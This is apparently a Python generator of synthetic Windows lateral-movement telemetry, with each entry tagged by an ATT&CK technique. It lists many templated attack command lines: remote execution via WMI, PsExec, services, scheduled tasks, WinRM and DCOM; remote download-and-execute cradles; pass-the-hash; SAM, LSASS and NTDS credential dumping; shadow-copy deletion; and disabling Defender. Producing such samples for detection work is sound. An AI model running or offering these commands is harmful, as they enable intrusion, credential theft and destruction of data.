"""Commands that reach from one machine into another, by strangers."""

from __future__ import annotations

from generator.families.windows.commands_told import PROMPT, STRANGE, told
from generator.scene import attack


def lateral(*techniques: str, severity: str = "HIGH"):
    return attack("Lateral Movement", *techniques, severity=severity)


FOOTHOLD = PROMPT + STRANGE[:6]

told("lateral-wmi-starts-processes", lateral("T1047"), r"""
wmic /node:@ip@ process call create "cmd.exe /c @tmp@@word@.bat"
wmic /node:@host@ /user:@domain@\@user@ /password:@pw@ process call create "powershell -nop -w hidden -enc ⟦IEX (iwr @url@)⟧"
wmic.exe /node:"@ip@" process call create "rundll32.exe C:\Windows\Temp\@word@.dll,«StartW|DllMain|Start»"
wmic /node:@@tmp@hosts.txt process call create "C:\ProgramData\@word@.exe"
wmic /node:@ip@ /user:Administrator /password:@pw@ process call create "cmd /c vssadmin delete shadows /all /quiet"
wmic /failfast:on /node:@host@ process call create "regsvr32 /s /u /i:@url@.sct scrobj.dll"
wmic /node:@pc@ process call create "cmd /c \\@ip@\share$\@word@.exe"
wmic /node:127.0.0.1 process call create "cmd.exe /c whoami > \\127.0.0.1\ADMIN$\@word@.txt"
wmic process call create "powershell.exe -w hidden -ep bypass -f C:\Users\Public\@word@.ps1"
wmic process call create 'mshta.exe @url@.hta'
wmic process call create "C:\Windows\Temp\@word@.exe"
wmic /node:@ip@ process where name="«MsMpEng.exe|sqlservr.exe|veeam»" delete
wmic /node:@ip@ service where name="«Sense|VeeamBackupSvc|MSSQLSERVER»" call stopservice
wmic /node:@host@ path win32_terminalservicesetting where (__class!="") call setallowtsconnections 1
powershell -nop -c "Invoke-WmiMethod -ComputerName @ip@ -Class Win32_Process -Name Create -ArgumentList 'cmd /c C:\Windows\Temp\@word@.exe'"
powershell -c "Invoke-CimMethod -ComputerName @host@ -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\Users\Public\@word@.exe'}"
powershell -w hidden -c "([wmiclass]'\\@ip@\root\cimv2:Win32_Process').Create('powershell -enc ⟦iex(irm @url@)⟧')"
@tmp@SharpWMI.exe action=exec computername=@host@ command="C:\Windows\Temp\@word@.exe"
@tmp@wmiexec.exe @domain@/@user@:@pw@@@ip@ "cmd /c @word@.bat"
cscript.exe //nologo @tmp@WMIEXEC.vbs /shell @ip@ @user@ @pw@
cscript //nologo wmiexec.vbs /cmd @ip@ administrator @pw@ "net localgroup administrators"
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=3, weight=1.3)

told("lateral-commands-of-wmi-host", lateral("T1047", "T1021.002", "T1059.003"), r"""
cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__@port@@n@.@port@ 2>&1
cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__@port@@n@ 2>&1
cmd.exe /Q /c net localgroup administrators 1> \\127.0.0.1\ADMIN$\__@port@ 2>&1
cmd.exe /Q /c dir C:\Users 1> \\127.0.0.1\C$\Windows\Temp\@word@ 2>&1
cmd.exe /Q /c cd 1> \\localhost\ADMIN$\__@port@.@n@ 2>&1
cmd.exe /Q /c tasklist /v 1> \\127.0.0.1\ADMIN$\__@port@@port@ 2>&1
cmd.exe /Q /c powershell -nop -enc ⟦hostname;ipconfig /all⟧ 1> \\127.0.0.1\ADMIN$\__@port@ 2>&1
cmd.exe /Q /c reg save HKLM\SAM C:\Windows\Temp\@word@.tmp 1> \\127.0.0.1\ADMIN$\__@port@ 2>&1
cmd.exe /C whoami /all 1> C:\Windows\Temp\@hex@.tmp 2>&1
cmd.exe /c C:\Windows\Temp\@word@.exe
powershell.exe -NoP -NonI -W Hidden -Enc ⟦IEX (New-Object Net.WebClient).DownloadString('@url@')⟧
rundll32.exe C:\ProgramData\@word@.dll,«Start|#1|DllRegisterServer»
cmd.exe /c mshta @url@.hta
regsvr32.exe /s C:\Users\Public\@word@.ocx
C:\Windows\Temp\@word@.exe
""", parents=("WmiPrvSE.exe",), users=(None, "SYSTEM"), most=5)

told("lateral-commands-of-service-host", lateral("T1569.002", "T1021.002", severity="CRITICAL"), r"""
C:\Windows\system32\cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat
%COMSPEC% /Q /c echo whoami ^> \\@me@\C$\__output 2^>^&1 > %SYSTEMROOT%\@word@.bat & %COMSPEC% /Q /c %SYSTEMROOT%\@word@.bat & del %SYSTEMROOT%\@word@.bat
cmd.exe /Q /c echo net user @word@ @pw@ /add ^> \\127.0.0.1\ADMIN$\__output_@word@ 2^>^&1 > %TEMP%\@word@.bat & cmd.exe /Q /c %TEMP%\@word@.bat
C:\Windows\system32\cmd.exe /c echo @hex@ > \\.\pipe\@word@
%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand ⟦$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()⟧
C:\Windows\@word@.exe
\\127.0.0.1\ADMIN$\@hex@.exe
\\@ip@\ADMIN$\@word@.exe
C:\Windows\RemComSvc.exe
C:\Windows\winexesvc.exe
C:\Windows\System32\csexecsvc.exe
C:\Windows\xCmdSvc.exe
cmd.exe /c "C:\Windows\Temp\@word@.bat"
rundll32.exe C:\Windows\Temp\@word@.dll,ServiceMain
""", parents=("services.exe",), users=("SYSTEM",), most=3)

told("lateral-psexec-and-kin", lateral("T1569.002", "T1021.002", "T1570"), r"""
@tmp@PsExec.exe -accepteula -s -d \\@ip@ -u @domain@\@user@ -p @pw@ cmd /c C:\Windows\Temp\@word@.exe
@tmp@PsExec64.exe -accepteula \\@host@ -s cmd.exe
@tmp@psexec.exe -accepteula @@tmp@«comps|hosts|targets|ips1».txt -u @domain@\@user@ -p @pw@ -d -c -f @tmp@@word@.exe
@tmp@psexec.exe -accepteula -d -s \\@ip@ rundll32 C:\windows\temp\@word@.dll,StartW
@tmp@@word@.exe -accepteula \\@ip@ -u @user@ -p @pw@ -s -h cmd /c vssadmin delete shadows /all /quiet ## psexec.c
@tmp@@word@.exe \\@dc@ -s -i powershell.exe -nop ## psexec.c
start @tmp@PsExec.exe -d @@tmp@comps@n@.txt -u @domain@\@user@ -p "@pw@" cmd /c COPY "\\@ip@\share$\@word@.exe" "C:\windows\temp\"
@tmp@paexec.exe \\@ip@ -u @user@ -p @pw@ -s -c -noname @tmp@@word@.exe
@tmp@csexec.exe \\@ip@ -u @user@ -p @pw@ cmd.exe
@tmp@RemCom.exe \\@host@ /user:@user@ /pwd:@pw@ cmd.exe
@tmp@xcmd.exe \\@ip@ cmd
@tmp@SharpExec.exe -m=psexec -i=@ip@ -d=@domain@ -u=@user@ -p=@pw@ -f="@tmp@@word@.exe" -e="C:\Windows\Temp\@word@.exe"
@tmp@Sharp-SMBExec.exe hash:"@hex@@hex@@hex@" username:"@user@" domain:"@domain@" target:"@ip@" command:"whoami"
@tmp@psexec.py.exe @domain@/@user@:@pw@@@ip@
@tmp@smbexec.exe @domain@/@user@@@ip@ -hashes :@hex@@hex@@hex@
python.exe @tmp@smbexec.py -hashes aad3b435b51404eeaad3b435b51404ee:@hex@@hex@@hex@ @user@@@ip@
python3 psexec.py @domain@/administrator@@ip@ -k -no-pass
@tmp@crackmapexec.exe smb 10.@n@.@n@.0/24 -u @user@ -p @pw@ -x "net user"
@tmp@nxc.exe smb @@tmp@t.txt -u administrator -H @hex@@hex@@hex@ --local-auth -x whoami
@tmp@atexec.exe @domain@/@user@:@pw@@@ip@ "cmd /c C:\Windows\Temp\@word@.exe"
powershell -ep bypass -c "Import-Module .\Invoke-PsExec.ps1; Invoke-PsExec -ComputerName @host@ -Command 'net localgroup administrators'"
powershell -nop -c "Invoke-SMBExec -Target @ip@ -Domain @domain@ -Username @user@ -Hash @hex@@hex@@hex@ -Command 'powershell -enc ⟦whoami⟧'"
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=2, weight=1.3)

told("lateral-services-made-afar", lateral("T1569.002", "T1543.003", "T1021.002"), r"""
sc \\@ip@ create @word@ binPath= "C:\Windows\Temp\@word@.exe" start= auto
sc.exe \\@host@ create @Word@Svc binpath= "cmd.exe /c powershell -nop -w hidden -enc ⟦iex(iwr @url@)⟧"
sc \\@host@ config «SessionEnv|IKEEXT|SensorService» binPath= "C:\ProgramData\@word@.exe"
sc.exe \\@host@ create «WinDefendUpdate|svchost|PSEXESVC|HPSupportSvc» binPath= "\\@ip@\share\@word@.exe" type= own
cmd /c for /f %i in (@tmp@hosts.txt) do sc \\%i create @word@ binPath= "C:\Windows\@word@.exe" & sc \\%i start @word@
@tmp@SharpSC.exe action=create computername=@host@ service=@word@ displayname=@Word@ binpath=C:\Windows\Temp\@word@.exe
@tmp@SCShell.exe @ip@ XblAuthManager "C:\Windows\System32\cmd.exe /c C:\Windows\Temp\@word@.bat" @domain@ @user@ @pw@
powershell -ep bypass -c ". .\Invoke-SCShell.ps1; Invoke-SCShell -Target @host@ -Service SensorService -Payload 'C:\ProgramData\@word@.exe'"
powershell -c "Invoke-Command -ComputerName @host@ {New-Service -Name @word@ -BinaryPathName 'C:\Windows\Temp\@word@.exe' | Start-Service}"
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=3)

told("lateral-tasks-made-afar", lateral("T1053.005", "T1021.002"), r"""
schtasks /create /s @ip@ /tn @word@ /tr "C:\Windows\Temp\@word@.exe" /sc once /st 00:00 /ru SYSTEM
schtasks /create /s @host@ /u @domain@\@user@ /p @pw@ /tn "@Word@" /tr "cmd /c C:\ProgramData\@word@.bat" /sc onstart /ru system /f
SCHTASKS /s @host@ /RU "SYSTEM" /create /tn "WindowsUpdate" /tr "powershell.exe -nop -w hidden -f C:\Users\Public\@word@.ps1" /sc ONCE /sd 01/01/1970 /st 00:00
schtasks /create /s @dc@ /tn @word@ /xml C:\Windows\Temp\@word@.xml /ru system
cmd /c for /f %i in (@tmp@servers.txt) do schtasks /create /s %i /tn @word@ /tr "C:\Windows\Temp\@word@.exe" /sc daily /st @n@:00 /ru system & schtasks /run /s %i /tn @word@
at \\@ip@ @n@:00 C:\Windows\Temp\@word@.exe
at.exe \\@host@ 03:15 cmd /c "C:\Windows\@word@.bat"
powershell -c "Register-ScheduledTask -CimSession @host@ -TaskName @word@ -Action (New-ScheduledTaskAction -Execute C:\Windows\Temp\@word@.exe) -User SYSTEM"
@tmp@SharpTask.exe --ADDTASK @host@ 4h:30m "@Word@" "\" "C:\Windows\Temp\@word@.exe" ""
@tmp@atexec.py.exe -hashes :@hex@@hex@@hex@ @domain@/@user@@@ip@ whoami
python.exe atexec.py @domain@/@user@:@pw@@@ip@ "powershell -enc ⟦iex(iwr @url@)⟧"
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=3)

told("lateral-shares-mounted", lateral("T1021.002", "T1078"), r"""
net use \\@ip@\C$ @pw@ /user:@domain@\@user@
net use \\@host@\ADMIN$ /user:administrator @pw@
net use \\@ip@\ipc$ "" /user:""
net1 use \\@dc@\c$ /u:@domain@\@user@ @pw@
net use Z: \\@ip@\d$ @pw@ /user:.\administrator /persistent:no
cmd /c for /f %i in (@tmp@ips.txt) do net use \\%i\C$ @pw@ /user:@domain@\@user@ & dir \\%i\c$
net use \\@host@\IPC$ /user:@me@\guest ""
dir \\@ip@\c$\Users
dir \\@dc@\c$\Windows\NTDS
cmd.exe /c dir \\@host@\admin$ > @tmp@@word@.txt
net use \\@ip@ /delete /y & net use \\@ip@\admin$ @pw@ /user:@user@
powershell -c "New-PSDrive -Name X -PSProvider FileSystem -Root \\@ip@\c$ -Credential (New-Object PSCredential('@domain@\@user@',(ConvertTo-SecureString '@pw@' -AsPlainText -Force)))"
rundll32.exe davclnt.dll,DavSetCookie @ip@ http://@ip@/@word@
net use \\@pub@\share /user:@word@ @pw@
net use * \\@word@.trycloudflare.com@SSL\DavWWWRoot
pushd \\@pub@@8080\@word@\ & start @word@.lnk
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("lateral-tools-carried-over", lateral("T1570", "T1021.002"), r"""
copy @tmp@@word@.exe \\@ip@\ADMIN$\Temp\
copy /y @tmp@@word@.dll \\@host@\C$\ProgramData\
cmd.exe /c copy C:\Users\Public\@word@.bat \\@ip@\c$\windows\temp\@word@.bat
copy \\@ip@\share$\@word@.exe C:\Windows\Temp\ 
cmd /c for /f %i in (@tmp@hosts.txt) do copy /y @tmp@@word@.exe \\%i\ADMIN$\@word@.exe
xcopy @tmp@@word@ \\@host@\C$\PerfLogs\ /s /y /h
robocopy @tmp@tools \\@ip@\c$\ProgramData\@word@ /e /r:0
move @tmp@@word@.exe \\@ip@\C$\Users\Public\svchost.exe
copy @tmp@@word@.exe "\\@host@\C$\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"
copy /Y \\@dc@\netlogon\@word@.exe C:\Users\Public\
powershell -w hidden -c "Copy-Item C:\Windows\Temp\@word@.exe -Destination \\@ip@\ADMIN$\@word@.exe"
powershell -c "$s=New-PSSession @host@; Copy-Item -ToSession $s @tmp@«mimikatz|beacon|agent|@word@».exe C:\Windows\Temp\"
esentutl.exe /y \\@ip@\c$\temp\@word@.exe /d C:\ProgramData\@word@.exe /o
expand \\@ip@\webdav\@word@.bat C:\ADS\file.txt:@word@.bat
extrac32 /Y /C \\@ip@\share\@word@.txt C:\folder\@word@.txt
makecab \\@ip@\share\@word@.exe C:\windows\temp\@word@.cab
print /D:C:\ADS\@word@.exe \\@ip@\share\@word@.exe
@tmp@psftp.exe -pw @pw@ @user@@@ip@ & @tmp@pscp.exe @word@ root@@ip@:/tmp/
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("lateral-remote-management", lateral("T1021.006", "T1059.001"), r"""
winrs -r:@ip@ -u:@domain@\@user@ -p:@pw@ "cmd /c C:\Windows\Temp\@word@.exe"
winrs.exe -r:@host@ -ad powershell -nop -w hidden -enc ⟦IEX (iwr @url@)⟧
winrs -r:http://@ip@:5985 -u:administrator -p:@pw@ whoami
powershell -nop -w hidden -c "Invoke-Command -ComputerName @host@ -ScriptBlock {IEX (iwr @url@ -UseBasicParsing)}"
powershell -c "icm -cn (gc @tmp@pcs.txt) {Set-MpPreference -DisableRealtimeMonitoring 1; C:\Windows\Temp\@word@.exe}"
powershell -c "icm @dc@ {ntdsutil 'ac i ntds' 'ifm' 'create full C:\Windows\Temp\@word@' q q}"
powershell -ep bypass -c "$s=New-PSSession -ComputerName @ip@; Invoke-Command -Session $s -FilePath @tmp@Invoke-Mimikatz.ps1"
wsman invoke Create wmicimv2/Win32_Process @{CommandLine="C:\Windows\Temp\@word@.exe"} -r:http://@ip@:5985
cscript //nologo "C:\Windows\System32\winrm.vbs" invoke Create wmicimv2/Win32_Process @{CommandLine="powershell -enc ⟦whoami⟧"} -r:http://@host@:5985
winrm invoke Create wmicimv2/Win32_Process @{CommandLine="calc";CurrentDirectory="C:\"} -r:http://@ip@:5985
@tmp@evil-winrm.exe -i @ip@ -u @user@ -H @hex@@hex@@hex@
ruby.exe @tmp@evil-winrm.rb -i @ip@ -u administrator -p @pw@ -s C:\Users\Public
@tmp@nxc.exe winrm 10.@n@.@n@.0/24 -u @user@ -p @pw@ -x whoami
@tmp@WSManWinRM.exe @host@ "cmd /c @word@.bat" @domain@\@user@ @pw@
@tmp@SharpWSManWinRM.exe @ip@ "powershell -enc ⟦hostname⟧" @user@ @pw@
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=2)

told("lateral-shell-of-remote-management", lateral("T1021.006", "T1059.001"), r"""
cmd.exe /c C:\Windows\Temp\@word@.exe
powershell.exe -nop -w hidden -enc ⟦IEX (New-Object Net.WebClient).DownloadString('@url@')⟧
cmd.exe /c net user @word@ @pw@ /add & net localgroup administrators @word@ /add
net.exe localgroup administrators @domain@\@word@ /add
reg.exe save HKLM\SAM C:\Windows\Temp\@word@.tmp
rundll32.exe C:\Windows\System32\comsvcs.dll,MiniDump @pid@ C:\Windows\Temp\@word@.bin full
cmd.exe /c vssadmin delete shadows /all /quiet
C:\Users\Public\@word@.exe -d
certutil.exe -urlcache -f @url@.exe C:\Windows\Temp\@word@.exe
schtasks.exe /create /tn @word@ /tr C:\ProgramData\@word@.exe /sc onlogon /ru system
powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true"
""", parents=("wsmprovhost.exe", "winrshost.exe"), most=5)

told("lateral-component-objects", lateral("T1021.003", "T1059.001"), r"""
powershell -nop -c "$c=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','@ip@')); $c.Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c C:\Windows\Temp\@word@.exe','7')"
powershell -c "[activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','@host@')).item().Document.Application.ShellExecute('cmd.exe','/c @tmp@@word@.bat','C:\windows\system32',$null,0)"
powershell -c "([activator]::CreateInstance([type]::GetTypeFromCLSID('C08AFD90-F2A1-11D1-8455-00A0C91F3880','@ip@'))).Document.Application.ShellExecute('powershell','-enc ⟦iex(irm @url@)⟧','','',0)"
powershell -nop -c "$x=[activator]::CreateInstance([type]::GetTypeFromProgID('Excel.Application','@ip@')); $x.DisplayAlerts=$false; $x.DDEInitiate('cmd','/c C:\ProgramData\@word@.exe')"
powershell -c "$e=[activator]::CreateInstance([type]::GetTypeFromProgID('Excel.Application','@host@')); $e.RegisterXLL('C:\Windows\Temp\@word@.dll')"
powershell -c "[activator]::CreateInstance([type]::GetTypeFromProgID('Outlook.Application','@ip@')).CreateObject('Shell.Application').ShellExecute('C:\Windows\Temp\@word@.exe')"
powershell -c "[activator]::CreateInstance([type]::GetTypeFromProgID('Visio.InvisibleApp','@host@')).Addons.Add('C:\Users\Public\@word@.exe').Run('')"
powershell -ep bypass -c "Import-Module .\Invoke-DCOM.ps1; Invoke-DCOM -ComputerName @ip@ -Method «MMC20.Application|ShellWindows|ShellBrowserWindow|ExcelDDE|ServiceStart» -Command '@tmp@@word@.exe'"
@tmp@dcomexec.exe -object «MMC20|ShellWindows|ShellBrowserWindow» @domain@/@user@:@pw@@@ip@ "cmd /c @word@.bat"
python.exe dcomexec.py -object MMC20 -silentcommand @domain@/@user@@@ip@ -hashes :@hex@@hex@@hex@ "C:\Windows\Temp\@word@.exe"
@tmp@SharpCOM.exe --Method ShellWindows --ComputerName @host@ --Command "cmd.exe" --Parameters "/c C:\ProgramData\@word@.exe"
@tmp@CsDCOM.exe -t @ip@ -b cmd.exe -a "/c @word@" -m mmc20application
@tmp@SharpMove.exe action=dcom computername=@host@ command="C:\Windows\Temp\@word@.exe" method=ShellBrowserWindow amsi=true
""", parents=FOOTHOLD, most=2)

told("lateral-children-of-console-object", lateral("T1021.003", "T1059.003"), r"""
cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__@port@.@port@ 2>&1
"C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__@port@ 2>&1
cmd.exe /Q /c hostname 1> \\127.0.0.1\ADMIN$\__@port@ 2>&1
"C:\Windows\System32\cmd.exe" /c C:\Windows\Temp\@word@.exe
"C:\Windows\System32\cmd.exe" /c powershell -nop -w hidden -enc ⟦iex(irm @url@)⟧
"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -W Hidden -Enc ⟦IEX(iwr @url@ -useb)⟧
"C:\Windows\System32\rundll32.exe" C:\ProgramData\@word@.dll,Start
"C:\Windows\System32\mshta.exe" @url@.hta
C:\Users\Public\@word@.exe
""", parents=("mmc.exe", "mmc.exe", "mmc.exe", "dllhost.exe"), most=4)
